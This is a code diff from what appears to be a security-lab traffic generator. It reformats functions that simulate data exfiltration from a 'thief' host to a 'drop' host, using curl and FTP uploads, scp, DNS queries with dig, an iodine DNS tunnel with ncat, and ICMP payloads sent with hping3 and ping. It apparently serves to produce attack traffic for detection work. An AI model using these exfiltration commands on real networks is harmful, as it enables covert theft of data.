@@ -25,7 +25,8 @@ def _upload(job, service):
     slow = job.rng.choice(([], [], ["--limit-rate", f"{job.rng.randint(30, 400)}k"]))
     with job.claim(thief, drop, port=port):
         for _ in range(job.rng.randint(2, 8)):
-            job.run(thief, [*CURL, *slow, "-T", _loot(job, 100_000, 4_000_000), f"{'https' if service == 'tls' else 'http'}://{drop.v4}:{port}/app/upload"], 20)
+            job.run(thief, [*CURL, *slow, "-T", _loot(job, 100_000, 4_000_000),
+                            f"{'https' if service == 'tls' else 'http'}://{drop.v4}:{port}/app/upload"], 20)
             if not job.sleep(job.rng.uniform(0, 3)):
                 break
 
@@ -47,7 +48,8 @@ def scp_upload(job):
     port = drop.services["ssh"]
     with job.claim(thief, drop, port=port):
         for number in range(job.rng.randint(1, 3)):
-            job.run(thief, ["scp", "-q", *SSH, "-i", KEY, "-P", port, _loot(job), f"{job.rng.choice(list(job.services.users))}@{drop.v4}:loot{number}"], 20)
+            job.run(thief, ["scp", "-q", *SSH, "-i", KEY, "-P", port, _loot(job),
+                            f"{job.rng.choice(list(job.services.users))}@{drop.v4}:loot{number}"], 20)
             job.sleep(job.rng.uniform(0, 2))
 
 
@@ -59,7 +61,8 @@ def ftp_upload(job):
     port = drop.services["ftp"]
     with job.claim(thief, drop):  # Any port: the data connections have their own.
         for number in range(job.rng.randint(1, 4)):
-            job.run(thief, [*CURL, "--user", f"{user}:{secret}", "-T", _loot(job), f"ftp://{drop.v4}:{port}/loot{number}"], 15)
+            job.run(thief, [*CURL, "--user", f"{user}:{secret}", "-T", _loot(job),
+                            f"ftp://{drop.v4}:{port}/loot{number}"], 15)
 
 
 @attack("exfiltration", "ncat")
@@ -85,14 +88,17 @@ def dns_labels(job):
     kind, pause = job.rng.choice(("TXT", "NULL", "A", "MX", "CNAME")), job.rng.choice((0, 0.05, 0.3))
     length = job.rng.choice((30, 50, 60))
     zone = job.services.tunnel_domain
+
+    def name(number):
+        return f"{words.host_label(job.rng, length)}.{words.host_label(job.rng, length)}.{number}.{zone}"
+
     with job.claim(thief, resolver, port=53, protocol="udp"):
         if pause == 0:
-            names = "".join(f"{words.host_label(job.rng, length)}.{words.host_label(job.rng, length)}.{n}.{zone} {kind}\n" for n in range(job.rng.randint(80, 400)))
+            names = "".join(f"{name(n)} {kind}\n" for n in range(job.rng.randint(80, 400)))
             job.run(thief, ["dig", f"@{resolver.v4}", "+tries=1", "+time=1", "+short", "-f", job.file(names)], 20)
         else:
             for number in range(job.rng.randint(30, 150)):
-                job.run(thief, ["dig", f"@{resolver.v4}", "+tries=1", "+time=1", kind,
-                                f"{words.host_label(job.rng, length)}.{words.host_label(job.rng, length)}.{number}.{zone}"], 3)
+                job.run(thief, ["dig", f"@{resolver.v4}", "+tries=1", "+time=1", kind, name(number)], 3)
                 if not job.sleep(pause * job.rng.uniform(0.5, 1.5)):
                     break
 
@@ -111,13 +117,15 @@ def dns_tunnel(job):
     job.sleep(0.7)
     try:
         with job.claim(thief, drop, port=53, protocol="udp"):
-            client = job.start(thief, ["iodine", "-f", "-r", "-P", "lab", "-T", job.rng.choice(("NULL", "TXT", "CNAME", "MX", "SRV")),
+            client = job.start(thief, ["iodine", "-f", "-r", "-P", "lab", "-T",
+                                       job.rng.choice(("NULL", "TXT", "CNAME", "MX", "SRV")),
                                        "-I", job.rng.choice((1, 4)), drop.v4, zone])
             job.sleep(min(6, job.left / 3))
             job.run(thief, ["ping", "-q", "-c", "5", "-i", "0.3", "-W", "2", f"{inner}.1"], 8)
             listener = job.start(drop, ["ncat", "-l", "-p", "7000", "--recv-only", "-o", "/dev/null"])
             job.sleep(0.2)
-            job.run(thief, ["sh", "-c", f"ncat -w 5 --send-only {inner}.1 7000 <{_loot(job, 20_000, 300_000)}"], min(20, job.left - 2))
+            job.run(thief, ["sh", "-c", f"ncat -w 5 --send-only {inner}.1 7000 <{_loot(job, 20_000, 300_000)}"],
+                    min(20, job.left - 2))
             job.sleep(job.rng.uniform(0, 4))
             job.end(listener)
             job.end(client)
@@ -133,6 +141,8 @@ def icmp_upload(job):
     size = job.rng.choice((200, 600, 1200))
     with job.claim(thief, drop, protocol="icmp"):
         if job.rng.random() < 0.5:
-            job.run(thief, ["hping3", "-q", "-n", "-1", "-i", f"u{1_000_000 // rate}", "-c", rate * 12, "-d", size, "-E", _loot(job, 20_000, 200_000), drop.v4], 15)
+            job.run(thief, ["hping3", "-q", "-n", "-1", "-i", f"u{1_000_000 // rate}", "-c", rate * 12, "-d", size,
+                            "-E", _loot(job, 20_000, 200_000), drop.v4], 15)
         else:
-            job.run(thief, ["ping", "-q", "-i", f"{1 / rate:.3f}", "-c", rate * 10, "-s", size, "-p", job.rng.randbytes(16).hex(), drop.v4], 14)
+            job.run(thief, ["ping", "-q", "-i", f"{1 / rate:.3f}", "-c", rate * 10, "-s", size, "-p",
+                            job.rng.randbytes(16).hex(), drop.v4], 14)
